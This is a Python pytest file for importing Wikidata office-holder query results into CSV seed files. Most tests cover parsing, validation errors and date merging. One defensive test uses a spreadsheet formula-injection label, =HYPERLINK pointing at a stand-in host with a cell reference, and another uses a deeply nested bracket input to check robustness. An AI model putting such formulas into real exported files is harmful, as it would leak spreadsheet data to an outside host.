"""Tests for merging a Wikidata position-held query result into role_holders.csv."""

from __future__ import annotations

import csv
import io
import itertools
import json
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

import pytest

from transforms.role_import import build_query, merge_role_holders, parse_query_result
from transforms.watchlist import SEED_FILES, SeedError, parse_watchlist

SEEDS = Path(__file__).resolve().parents[2] / "seeds"
SNAPSHOT = SEEDS / "wikidata" / "position-holders-snapshot.json"
ENTITY = "http://www.wikidata.org/entity/"
PEOPLE = "person_id,name,wikidata_id\ntony-blair,Tony Blair,Q9545\ngordon-brown,Gordon Brown,\n"
ROLES = "role_id,name,titles,jurisdiction,wikidata_id\nuk-pm,Prime Minister of the United Kingdom,PM,uk,Q14211\n"
ROLES += "labour-leader,Leader of the Labour Party,Labour leader,uk,\n"


def binding(office: str, person: str | None, label: str, start: str, end: str | None = None) -> dict[str, object]:
    """One SPARQL JSON result row, as query.wikidata.org returns it."""
    row: dict[str, object] = {
        "officeLabel": {"type": "literal", "value": office},
        "personLabel": {"xml:lang": "en", "type": "literal", "value": label},
        "start": {"type": "literal", "value": f"{start}T00:00:00Z"},
    }
    if office == "Prime Minister of the United Kingdom":
        row["office"] = {"type": "uri", "value": ENTITY + "Q14211"}
    if person:
        row["person"] = {"type": "uri", "value": ENTITY + person}
    if end:
        row["end"] = {"type": "literal", "value": f"{end}T00:00:00Z"}
    return row


def result(*rows: dict[str, object]) -> str:
    return json.dumps({"head": {"vars": []}, "results": {"bindings": list(rows)}})


def holders(text: str) -> list[tuple[str, str, str, str]]:
    return [
        (row["role_id"], row["person_id"], row["valid_from"], row["valid_to"])
        for row in csv.DictReader(io.StringIO(text))
    ]


PM = "Prime Minister of the United Kingdom"
STATEMENTS = parse_query_result(
    result(
        binding(PM, "Q9545", "Tony Blair", "1997-05-02", "2007-06-27"),
        binding(PM, "Q10648", "Gordon Brown", "2007-06-27", "2010-05-11"),
        binding(PM, "Q192", "David Cameron", "2010-05-11", "2016-07-13"),
        binding("Leader of the Labour Party", None, "Gordon Brown", "2007-06-24", "2010-05-11"),
        binding("Mayor of London", None, "Sadiq Khan", "2016-05-09"),
    ),
    "result.json",
)


class TestParseQueryResult:
    def test_sparql_json_rows_become_statements(self) -> None:
        """Entity URIs become item ids and dateTime literals become dates; a missing end means still in office."""
        [first] = parse_query_result(result(binding(PM, "Q9545", "Tony Blair", "1997-05-02")), "r.json")

        assert (first.office_id, first.person_id, first.person_label, first.start, first.end) == (
            "Q14211",
            "Q9545",
            "Tony Blair",
            date(1997, 5, 2),
            None,
        )

    def test_the_flat_json_download_reads_the_same(self) -> None:
        """The query service's "JSON file" download (a list of flat rows) gives the same statements."""
        flat = [
            {"office": ENTITY + "Q14211", "officeLabel": PM, "person": ENTITY + "Q9545", "personLabel": "Tony Blair",
             "start": "1997-05-02T00:00:00Z", "end": "2007-06-27T00:00:00Z"}
        ]  # fmt: skip
        sparql = result(binding(PM, "Q9545", "Tony Blair", "1997-05-02", "2007-06-27"))

        assert parse_query_result(json.dumps(flat), "r.json") == parse_query_result(sparql, "r.json")

    @pytest.mark.parametrize(
        ("text", "message"),
        [("{not json", "r.json: not JSON (Expecting property name enclosed in double quotes at line 1)"),
         ('{"head": {}}', "r.json: expected a Wikidata query result (SPARQL JSON or a list of rows)"),
         ('[{"officeLabel": "PM"}]', "r.json row 1: each row needs an office and a person (id or label)")],
    )  # fmt: skip
    def test_a_file_that_is_not_a_result_is_one_located_error(self, text: str, message: str) -> None:
        """Not JSON, the wrong shape, or a row without a person: SeedError naming the file (and row)."""
        with pytest.raises(SeedError) as caught:
            parse_query_result(text, "r.json")

        assert str(caught.value) == message


    @pytest.mark.parametrize(
        ("text", "message"),
        [('{"results": {"bindings": 5}}', "r.json: results.bindings: expected a list, found int"),
         ('{"results": []}', "r.json: results: expected an object, found a list"),
         ('{"results": {"bindings": ["row"]}}', "r.json: results.bindings[0]: expected an object, found a string"),
         ('{"results": {"bindings": [{"personLabel": {"value": 7}}]}}',
          "r.json: results.bindings[0].personLabel.value: expected a string, found int"),
         ('{"results": {"bindings": [{"personLabel": "Tony Blair"}]}}',
          "r.json: results.bindings[0].personLabel: expected an object, found a string"),
         ('[{"officeLabel": "PM", "personLabel": ["Tony Blair"]}]',
          "r.json: [0].personLabel: expected a string, found a list"),
         ("[" * 100_000 + "]" * 100_000, "r.json: nested too deeply to be a Wikidata query result")],
    )  # fmt: skip
    def test_a_value_of_the_wrong_type_is_named_by_its_place(self, text: str, message: str) -> None:
        """A wrong-typed or absurdly nested result says where and what was expected, in one SeedError line."""
        with pytest.raises(SeedError) as caught:
            parse_query_result(text, "r.json")

        assert str(caught.value) == message

class TestMergeRoleHolders:
    def files(self, role_holders: str = "role_id,person_id,valid_from,valid_to\n") -> dict[str, str]:
        return {"people.csv": PEOPLE, "roles.csv": ROLES, "role_holders.csv": role_holders}

    def test_tracked_holders_are_merged_by_item_id_or_name(self) -> None:
        """Blair matches by Wikidata id, Brown by name (no id typed); Cameron is not tracked and is skipped."""
        merged = merge_role_holders(STATEMENTS, self.files(), source="result.json")

        assert holders(merged.role_holders) == [
            ("uk-pm", "tony-blair", "1997-05-02", "2007-06-27"),
            ("uk-pm", "gordon-brown", "2007-06-27", "2010-05-11"),
            ("labour-leader", "gordon-brown", "2007-06-24", "2010-05-11"),
        ]
        assert (merged.summary.untracked, merged.summary.unknown_offices) == (["David Cameron"], ["Mayor of London"])

    def test_imported_periods_replace_what_they_overlap_and_keep_the_rest(self) -> None:
        """A typed row the import covers is replaced, an identical one unchanged, one it does not touch kept."""
        typed = (
            "role_id,person_id,valid_from,valid_to\n"
            "uk-pm,tony-blair,1997-05-02,2007-06-27\n"
            "uk-pm,gordon-brown,2007-06-28,2010-05-11\n"
            "labour-leader,tony-blair,1994-07-21,2007-06-24\n"
        )

        merged = merge_role_holders(STATEMENTS, self.files(typed), source="result.json")

        summary = merged.summary
        assert (summary.added, summary.replaced, summary.unchanged, summary.kept) == (2, 1, 1, 1)
        assert ("labour-leader", "tony-blair", "1994-07-21", "2007-06-24") in holders(merged.role_holders)

    def test_add_people_adds_untracked_holders_with_their_item_ids(self) -> None:
        """With add_people, untracked holders of known offices become people.csv rows (id from the name)."""
        merged = merge_role_holders(STATEMENTS, self.files(), source="result.json", add_people=True)

        assert merged.people is not None
        assert merged.people.splitlines()[-1] == "david-cameron,David Cameron,Q192"
        assert ("uk-pm", "david-cameron", "2010-05-11", "2016-07-13") in holders(merged.role_holders)

    def test_added_people_are_written_as_one_line_of_text_a_spreadsheet_will_not_run(self) -> None:
        """A label that is a formula, or holds a newline, is added as text on one line: the rule of every seed."""
        statements = parse_query_result(
            result(
                binding(PM, "Q1", '=HYPERLINK("http://x/?"&A1,"Click")', "2016-07-13", "2019-07-24"),
                binding(PM, "Q2", "Boris\nJohnson", "2019-07-24", "2022-09-06"),
            ),
            "result.json",
        )

        merged = merge_role_holders(statements, self.files(), source="result.json", add_people=True)

        assert merged.people is not None
        assert merged.people.splitlines()[-2:] == [
            'hyperlink-http-x-a1-click,"\'=HYPERLINK(""http://x/?""&A1,""Click"")",Q1',
            "boris-johnson,Boris Johnson,Q2",
        ]

    def test_a_holder_skipped_for_want_of_a_start_date_is_not_added(self) -> None:
        """--add-people adds people for the periods it imports; a row without a start date adds no one."""
        statements = [
            replace(statement, start=None) if statement.person_label == "David Cameron" else statement
            for statement in STATEMENTS
        ]

        merged = merge_role_holders(statements, self.files(), source="result.json", add_people=True)

        assert merged.people is None
        assert "David Cameron: uk-pm without a start date, skipped" in merged.summary.notes
        assert "david-cameron" not in {row[1] for row in holders(merged.role_holders)}

    def test_many_labels_of_one_id_get_numbered_ids(self) -> None:
        """Twelve hundred holders whose names reduce to one id are each added once, numbered in order."""
        statements = [
            replace(STATEMENTS[2], person_id=f"Q{1000 + index}", person_label="David Cameron" + "!" * index,
                    start=date(1990, 1, 1) + timedelta(days=index), end=None)
            for index in range(1200)
        ]  # fmt: skip

        merged = merge_role_holders(statements, self.files(), source="result.json", add_people=True)

        ids = [line.split(",")[0] for line in (merged.people or "").splitlines()[3:]]
        assert ids == ["david-cameron", *(f"david-cameron-{number}" for number in range(2, 1201))]

    def test_overlapping_statements_are_cut_where_the_next_holder_starts(self) -> None:
        """A holder whose statement has no end (or overlaps) ends when the next starts, so the file validates."""
        statements = parse_query_result(
            result(
                binding(PM, "Q9545", "Tony Blair", "1997-05-02"),
                binding(PM, "Q10648", "Gordon Brown", "2007-06-27", "2010-05-11"),
                binding(PM, "Q10648", "Gordon Brown", "2009-01-01", "2010-05-12"),
            ),
            "result.json",
        )

        merged = merge_role_holders(statements, self.files(), source="result.json")

        assert holders(merged.role_holders) == [
            ("uk-pm", "tony-blair", "1997-05-02", "2007-06-27"),
            ("uk-pm", "gordon-brown", "2007-06-27", "2010-05-12"),
        ]
        assert merged.summary.notes == ["uk-pm: tony-blair ends when gordon-brown starts (2007-06-27)"]


class TestShippedQueryAndSnapshot:
    def shipped(self) -> dict[str, str]:
        return {name: (SEEDS / name).read_text(encoding="utf-8") for name in SEED_FILES if (SEEDS / name).is_file()}

    def test_shipped_query_is_the_one_built_from_roles_csv(self) -> None:
        """seeds/wikidata/position-holders.rq is what `presswatch watchlist query` prints for the shipped roles."""
        roles = parse_watchlist(self.shipped()).roles

        assert (SEEDS / "wikidata" / "position-holders.rq").read_text(encoding="utf-8") == build_query(roles)

    @pytest.mark.parametrize(
        "office",
        [PM, "Chancellor of the Exchequer", "Home Secretary", "Foreign Secretary", "Leader of the Labour Party",
         "Leader of the Conservative Party", "Leader of the Liberal Democrats", "Leader of the Opposition",
         "President of the United States", "Vice President of the United States"],
    )  # fmt: skip
    def test_snapshot_covers_the_shipped_offices_from_1990_to_a_current_holder(self, office: str) -> None:
        """Each office in the snapshot has a holder in mid-1990, no gap after it, and a holder still in office."""
        statements = sorted(
            (item for item in parse_query_result(SNAPSHOT.read_text(encoding="utf-8"), SNAPSHOT.name)
             if item.office_label == office and item.start is not None),
            key=lambda item: item.start or date.min,
        )  # fmt: skip

        assert statements[0].start is not None and statements[0].start <= date(1990, 6, 1)
        assert statements[-1].end is None
        gaps = [(a.end, b.start) for a, b in itertools.pairwise(statements) if a.end != b.start]
        assert all(end is not None and start is not None and (start - end).days <= 1 for end, start in gaps), gaps

    def test_snapshot_says_when_and_from_what_it_was_built(self) -> None:
        """The snapshot carries its compilation date, its sources and the offices it covers."""
        about = json.loads(SNAPSHOT.read_text(encoding="utf-8"))["presswatch"]

        assert date.fromisoformat(about["compiled"]) <= date.today()
        assert "Wikidata" in about["source"] and len(about["offices"]) >= 10

    def test_importing_the_snapshot_into_the_shipped_seeds_changes_nothing(self) -> None:
        """The shipped role_holders.csv is the snapshot imported into the shipped seeds, so a re-import is a no-op."""
        files = self.shipped()
        statements = parse_query_result(SNAPSHOT.read_text(encoding="utf-8"), SNAPSHOT.name)

        merged = merge_role_holders(statements, files, source=SNAPSHOT.name)

        assert merged.role_holders == files["role_holders.csv"]
        assert (merged.summary.added, merged.summary.replaced) == (0, 0)
